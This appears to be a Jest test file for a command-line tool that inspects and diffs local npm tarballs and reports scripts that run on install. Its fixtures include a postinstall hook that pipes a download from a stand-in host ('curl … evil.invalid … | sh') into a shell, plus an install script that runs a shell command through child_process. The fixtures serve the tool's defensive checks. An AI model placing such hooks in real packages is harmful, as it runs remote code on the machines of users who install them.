/** Tarballs on disk, looked into like those of a registry and without asking one. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from '@jest/globals';
import { aPackage } from '../helpers/a-tarball.ts';
import { aWorkplace, type Workplace } from '../helpers/run-cli.ts';

let place: Workplace;
beforeEach(() => {
  place = aWorkplace('http://127.0.0.1:9/');
});
afterEach(() => place.remove());

function pack(file: string, manifest: object, files = {}): void {
  writeFileSync(join(place.folder, file), aPackage({ name: 'vendored', ...manifest }, { 'index.js': 'module.exports = 1;\n', ...files }));
}

it.each(['./v.tgz', 'v.tgz', 'file:v.tgz'])('inspect %s tells what runs on install', async (spec) => {
  pack('v.tgz', { version: '1.0.0', scripts: { postinstall: 'curl -s https://evil.invalid/x | sh' } });
  const { code, stdout, stderr } = await place.run('inspect', spec);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(stdout).toMatch(/^vendored@1\.0\.0 /);
  expect(stdout).toMatch(/Runs on install:\n\s+postinstall.*curl/);
  expect(stdout).toContain('a file of this machine');
});

it('diff holds one tarball on disk against another', async () => {
  pack('a.tgz', { version: '1.0.0' });
  pack('b.tgz', { version: '1.0.1', scripts: { install: 'node i.js' } }, { 'i.js': "require('child_process').execSync('id')" });
  const { code, stdout } = await place.run('diff', './a.tgz', './b.tgz');
  expect(code).toBe(0);
  expect(stdout).toMatch(/install.*node i\.js/);
});

it('what is no tarball, or not there, is said', async () => {
  mkdirSync(join(place.folder, 'folder'));
  expect(await place.run('inspect', './folder')).toMatchObject({ code: 2, stderr: expect.stringContaining('npm pack') });
  expect(await place.run('inspect', './none.tgz')).toMatchObject({ code: 2, stderr: expect.stringContaining('there is no ./none.tgz') });
  writeFileSync(join(place.folder, 'odd.tgz'), 'no archive');
  expect(await place.run('inspect', './odd.tgz')).toMatchObject({ code: 2, stderr: expect.stringContaining('./odd.tgz') });
});
